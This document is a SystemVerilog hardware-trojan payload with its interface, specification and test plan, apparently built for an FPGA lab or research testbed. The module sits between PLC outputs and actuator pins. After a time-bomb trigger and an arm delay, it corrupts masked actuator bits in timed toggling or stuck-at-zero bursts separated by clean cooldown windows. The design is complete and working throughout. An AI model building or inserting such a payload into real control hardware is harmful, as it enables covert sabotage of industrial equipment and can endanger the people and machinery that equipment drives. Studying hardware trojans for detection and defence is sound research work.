// File: rtl/trojan_payload_ctrl_if.sv
// PLC-to-actuator bus for trojan_payload_ctrl: trigger/kill controls, PLC data in,
// actuator drive and status out.
interface trojan_payload_ctrl_if #(
    parameter int unsigned WIDTH = 8
);
    logic             trigger;
    logic             disarm;
    logic [WIDTH-1:0] plc_in;
    logic [WIDTH-1:0] act_out;
    logic             payload_active;
    logic [1:0]       state;
    logic [7:0]       burst_cnt;

    modport master (
        output trigger, disarm, plc_in,
        input  act_out, payload_active, state, burst_cnt
    );

    modport slave (
        input  trigger, disarm, plc_in,
        output act_out, payload_active, state, burst_cnt
    );
endinterface

// File: rtl/trojan_payload_ctrl.sv
// Trigger-driven payload between PLC outputs and actuator pins: arm delay, masked
// corruption bursts, cooldown windows. Define PAYLOAD_STUCK_EN for stuck-at-0 payload.
module trojan_payload_ctrl #(
    parameter int unsigned       WIDTH         = 8,
    parameter logic [WIDTH-1:0]  MASK          = WIDTH'(8'hFF),
    parameter int unsigned       ARM_DELAY     = 100,
    parameter int unsigned       TOGGLE_PERIOD = 50,
    parameter int unsigned       BURST_LEN     = 1000,
    parameter int unsigned       COOLDOWN_LEN  = 500
) (
    input  logic                 CLK100MHZ,
    input  logic                 CPU_RESETN,
    trojan_payload_ctrl_if.slave bus
);

    typedef enum logic [1:0] {
        IDLE     = 2'd0,
        ARMED    = 2'd1,
        ATTACK   = 2'd2,
        COOLDOWN = 2'd3
    } state_t;

    localparam int unsigned MAX_AB  = (ARM_DELAY > BURST_LEN) ? ARM_DELAY : BURST_LEN;
    localparam int unsigned CNT_MAX = (MAX_AB > COOLDOWN_LEN) ? MAX_AB : COOLDOWN_LEN;
    localparam int unsigned CW      = $clog2(CNT_MAX + 1);
    localparam int unsigned TW      = $clog2(TOGGLE_PERIOD + 1);

    localparam logic [CW-1:0] ARM_LAST   = CW'(ARM_DELAY - 1);
    localparam logic [CW-1:0] BURST_LAST = CW'(BURST_LEN - 1);
    localparam logic [CW-1:0] COOL_LAST  = CW'(COOLDOWN_LEN - 1);
    localparam logic [TW-1:0] TOG_LAST   = TW'(TOGGLE_PERIOD - 1);

    state_t           state_q, state_d;
    logic [CW-1:0]    cnt_q, cnt_d;
    logic [TW-1:0]    tcnt_q, tcnt_d;
    logic             phase_q, phase_d;
    logic             trig_q;
    logic [WIDTH-1:0] act_q, act_d;
    logic             pa_q, pa_d;
    logic [7:0]       burst_q, burst_d;

    logic trig_rise;
    logic enter_attack;

    assign trig_rise    = bus.trigger & ~trig_q;
    assign enter_attack = (state_d == ATTACK) && (state_q != ATTACK);

    // State and datapath registers
    always_ff @(posedge CLK100MHZ or negedge CPU_RESETN) begin
        if (!CPU_RESETN) begin
            state_q <= IDLE;
            cnt_q   <= '0;
            tcnt_q  <= '0;
            phase_q <= 1'b0;
            trig_q  <= 1'b0;
            act_q   <= '0;
            pa_q    <= 1'b0;
            burst_q <= '0;
        end else begin
            state_q <= state_d;
            cnt_q   <= cnt_d;
            tcnt_q  <= tcnt_d;
            phase_q <= phase_d;
            trig_q  <= bus.trigger;
            act_q   <= act_d;
            pa_q    <= pa_d;
            burst_q <= burst_d;
        end
    end

    // Next-state logic; disarm overrides everything, including a coincident rise
    always_comb begin
        state_d = state_q;
        if (bus.disarm) begin
            state_d = IDLE;
        end else begin
            case (state_q)
                IDLE:     if (trig_rise)            state_d = ARMED;
                ARMED:    if (cnt_q == ARM_LAST)    state_d = ATTACK;
                ATTACK:   if (cnt_q == BURST_LAST)  state_d = COOLDOWN;
                COOLDOWN: if (cnt_q == COOL_LAST)   state_d = bus.trigger ? ATTACK : IDLE;
                default:                            state_d = IDLE;
            endcase
        end
    end

    // Next values for counters, payload phase and registered outputs
    always_comb begin
        act_d   = bus.plc_in;
        cnt_d   = '0;
        tcnt_d  = '0;
        phase_d = 1'b0;
        burst_d = burst_q;
        pa_d    = (state_d == ATTACK);

        if ((state_d == state_q) && (state_q != IDLE))
            cnt_d = cnt_q + CW'(1);

        if (enter_attack && (burst_q != 8'hFF))
            burst_d = burst_q + 8'd1;

`ifdef PAYLOAD_STUCK_EN
        if (!bus.disarm && (state_q == ATTACK))
            act_d = bus.plc_in & ~MASK;
`else
        if (enter_attack) begin
            phase_d = 1'b1;
        end else if ((state_q == ATTACK) && (state_d == ATTACK)) begin
            if (tcnt_q == TOG_LAST) begin
                tcnt_d  = '0;
                phase_d = ~phase_q;
            end else begin
                tcnt_d  = tcnt_q + TW'(1);
                phase_d = phase_q;
            end
        end

        if (!bus.disarm && (state_q == ATTACK))
            act_d = bus.plc_in ^ (MASK & {WIDTH{phase_q}});
`endif
    end

    assign bus.act_out        = act_q;
    assign bus.payload_active = pa_q;
    assign bus.state          = state_q;
    assign bus.burst_cnt      = burst_q;

endmodule

// File: doc/trojan_payload_ctrl.md
# trojan_payload_ctrl

Downstream consumer of the time-bomb `trigger` pulse. It sits between the PLC logic outputs and the actuator pins. While dormant it passes the PLC outputs through one register stage. Once triggered, it arms for a fixed delay, then corrupts a masked subset of the outputs in timed bursts separated by cooldown windows, and reports its state for on-board LEDs and the ILA.

## Interface
Parameters:
- `WIDTH`, 8: number of PLC output bits handled.
- `MASK`, 8'hFF: bits eligible for corruption (WIDTH wide).
- `ARM_DELAY`, 100: cycles spent in ARMED before the first burst (≥1).
- `TOGGLE_PERIOD`, 50: cycles between corruption-phase flips inside a burst (≥1).
- `BURST_LEN`, 1000: cycles per burst (≥1).
- `COOLDOWN_LEN`, 500: cycles of clean pass-through between bursts (≥1).

Ports:
- `CLK100MHZ`, input, 1: single system clock, rising edge.
- `CPU_RESETN`, input, 1: asynchronous active-low reset.
- `trigger`, input, 1: from the trigger stage, same clock domain; a level that may stay high indefinitely.
- `disarm`, input, 1: synchronous kill; forces IDLE.
- `plc_in`, input, WIDTH: clean PLC outputs.
- `act_out`, output, WIDTH: registered actuator drive.
- `payload_active`, output, 1: high only in ATTACK.
- `state`, output, 2: IDLE=0, ARMED=1, ATTACK=2, COOLDOWN=3.
- `burst_cnt`, output, 8: number of bursts started, saturating at 255.

## Operation
- `trig_q` registers `trigger`. `trig_rise` = `trigger & ~trig_q`.
- One shared cycle counter `cnt`, wide enough for the largest parameter. It clears on every state change.
- IDLE:
  - `act_out <= plc_in`.
  - On `trig_rise` -> ARMED.
- ARMED:
  - Pass-through; `cnt` increments.
  - At `cnt == ARM_DELAY-1` -> ATTACK. `phase` is set to 1 and `burst_cnt` increments, saturating.
- ATTACK:
  - `act_out <= plc_in ^ (MASK & {WIDTH{phase}})`.
  - A separate `tcnt` counts to `TOGGLE_PERIOD-1`, then wraps to 0 and `phase` flips.
  - At `cnt == BURST_LEN-1` -> COOLDOWN.
- COOLDOWN:
  - Pass-through.
  - At `cnt == COOLDOWN_LEN-1`: if `trigger` is high -> ATTACK, with `phase=1`, `tcnt=0` and `burst_cnt` incremented. Otherwise -> IDLE.
- `disarm` high in any state: next state is IDLE, counters clear, `phase=0`, and `act_out <= plc_in` that cycle. `disarm` has priority over `trig_rise`, which is dropped. `burst_cnt` is retained.
- `trig_rise` outside IDLE is ignored.
- Bits outside `MASK` are never altered in any state.

## Timing
- Reset values:
  - `act_out`=0, `state`=IDLE, `payload_active`=0, `burst_cnt`=0.
  - `cnt`=0, `tcnt`=0, `phase`=0, `trig_q`=0.
- Pass-through latency: 1 cycle from `plc_in` to `act_out`.
- `trig_rise` seen at edge N: `state`=ARMED after edge N.
- First corrupted `act_out` appears after edge N+ARM_DELAY+1.
- Corruption per burst: BURST_LEN cycles. The first flip to `phase=0` happens TOGGLE_PERIOD cycles into the burst.
- `payload_active` and `state` are registered and change on the same edge as the state transition.
- Reset deasserted while `trigger` is already high: `trig_q`=0, so a rise is detected on the first edge and the payload arms.
- Reset asserted mid-burst: all outputs go to reset values immediately (asynchronous).

## Configuration
- `PAYLOAD_STUCK_EN` defined: ATTACK forces masked bits to 0. Output is `act_out <= plc_in & ~MASK`; `phase` and `tcnt` are unused and held at 0.
- `PAYLOAD_STUCK_EN` undefined: the toggling XOR payload described above.

## Test plan
- Reset, then `trigger`=0 with `plc_in` stepping 8'h00→8'hA5: `act_out` follows one cycle later, `state`=0 throughout, `burst_cnt`=0.
- Defaults with `plc_in`=8'h0F, `trigger` raised and held: ARMED for 100 cycles. Then `act_out`=8'hF0 for 50 cycles, 8'h0F for 50, alternating over 1000 cycles. Then 500 cycles of 8'h0F, then ATTACK again with `burst_cnt`=2.
- `MASK`=8'h81, `plc_in`=8'hFF during ATTACK with `phase`=1: `act_out`=8'h7E. Bits 6..1 stay 1 throughout.
- `disarm` pulsed mid-burst: the next cycle has `state`=0, `act_out`=`plc_in`, `payload_active`=0, `burst_cnt` unchanged. `disarm` coincident with `trig_rise`: stays IDLE.
- `trigger` dropped during ATTACK: the burst finishes, COOLDOWN runs, then IDLE. A later rise re-arms with the full ARM_DELAY.
- `PAYLOAD_STUCK_EN` build, `plc_in`=8'hFF, `MASK`=8'hF0: `act_out`=8'h0F for the whole burst with no toggling. Async reset mid-burst drives `act_out`=0 immediately.
